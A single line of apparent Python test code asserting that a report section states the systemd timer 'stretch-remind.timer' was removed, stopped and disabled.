    assert "Removed: the systemd timer stretch-remind.timer (stopped and disabled)" in section
